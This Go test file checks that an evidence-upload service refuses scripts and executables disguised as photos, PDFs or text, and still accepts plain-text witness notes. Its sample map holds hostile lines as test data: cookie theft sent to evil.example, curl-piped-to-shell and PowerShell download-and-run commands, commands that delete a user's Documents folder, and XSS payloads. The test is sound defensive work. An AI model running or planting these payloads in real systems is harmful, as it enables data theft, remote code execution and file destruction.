package evidence

import (
	"bytes"
	"context"
	"errors"
	"strings"
	"testing"

	"github.com/rasd-project/rasd/internal/store"
)

// scriptFiles are programs and scripts under harmless names: each must be
// refused by its content. Several were taken in as plain text before.
var scriptFiles = map[string]string{
	"photo.jpg":     "Meeting notes, 3 March.\n<script>location='https://evil.example/?'+document.cookie</script>\n",
	"statement.pdf": "\xEF\xBB\xBF<html><body onload=alert(1)>",
	"map.kml":       `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>`,
	"scan.png":      `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`,
	"notes.txt":     "function steal() { new Image().src = 'https://evil.example/' + document.cookie; }\nsteal();\n",
	"list.txt":      "var sh = new ActiveXObject(\"WScript.Shell\");\nsh.Run(\"cmd /c del /q %USERPROFILE%\\\\Documents\");\n",
	"names.txt":     "Set objShell = CreateObject(\"WScript.Shell\")\r\nobjShell.Run \"calc.exe\"\r\n",
	"report.docx":   "#!/bin/sh\ncurl -s https://evil.example/x | sh\n",
	"audio.mp3":     "@echo off\r\ndel /q /s %USERPROFILE%\\Documents\r\n",
	"video.mp4":     "powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA\r\n",
	"ps.txt":        "IEX (New-Object Net.WebClient).DownloadString('https://evil.example/a.ps1')\n",
	"page.txt":      "   \n\n<!doctype html><title>x</title>",
	"a.jpg":         "MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8\x00\x00\x00\x00\x00\x00\x00@\x00\x00\x00",
	"b.jpg":         "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00>\x00",
	"c.jpg":         "\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00",
	"d.pdf":         "\xca\xfe\xba\xbe\x00\x00\x00\x34",
	"e.txt":         "\x00asm\x01\x00\x00\x00",
	"f.jpg":         "L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F",
	// The script comes after the first 512 bytes, which Detect reads.
	"long.txt": strings.Repeat("Interview with a witness in Basra, in her words. ", 20) + "\n<script src=https://evil.example/x.js></script>\n",
	"late.txt": strings.Repeat("Notes. ", 200) + "\r\n<IFRAME SRC=\"javascript:alert(1)\">",
}

// plainTexts are the kind of text evidence that must still be taken in.
var plainTexts = map[string]string{
	"chat.txt": "[12/03/2021, 21:04] Ali: they came at night => we left by the back door\n" +
		"[12/03/2021, 21:05] Zainab: send me the document.pdf (the function of the committee is unclear)\n" +
		"[12/03/2021, 21:06] Ali: 5 < 6 and x > y; let us meet at 9. #!important\n",
	"notes_ar.txt": "قال الشاهد إن السيارة كانت بلا لوحات. <مصدر محمي> عنوان: شارع ١٤ رمضان\n",
	"data.txt":     "Data: 5 incidents in Basra. JavaScript: not needed. Source: witness; see https://example.org/a?b=1\n",
	"list.txt":     "Set up a meeting with the committee.\nDim lights in the office at 9.\n",
}

func TestScriptsRefusedByContent(t *testing.T) {
	e := newEnv(t)
	for name, content := range scriptFiles {
		_, err := e.svc.Add(context.Background(), "zainab", store.KindIncident, e.inc, name, strings.NewReader(content))
		if !errors.Is(err, ErrScript) || !errors.Is(err, ErrType) {
			t.Errorf("%s (%q…): %v, want ErrScript", name, content[:min(len(content), 24)], err)
		}
	}
	for name, content := range plainTexts {
		ev, err := e.svc.Add(context.Background(), "zainab", store.KindIncident, e.inc, name, bytes.NewReader([]byte(content)))
		if err != nil || ev.Type != "text/plain" {
			t.Errorf("%s: %v, want plain text taken in", name, err)
		}
	}
	if files := e.blobs(t); len(files) != len(plainTexts) {
		t.Errorf("%d files stored, want %d: refused uploads left files behind", len(files), len(plainTexts))
	}
	all, _ := e.st.ListEvidence(context.Background(), "", "")
	if len(all) != len(plainTexts) {
		t.Errorf("%d rows, want %d", len(all), len(plainTexts))
	}
}
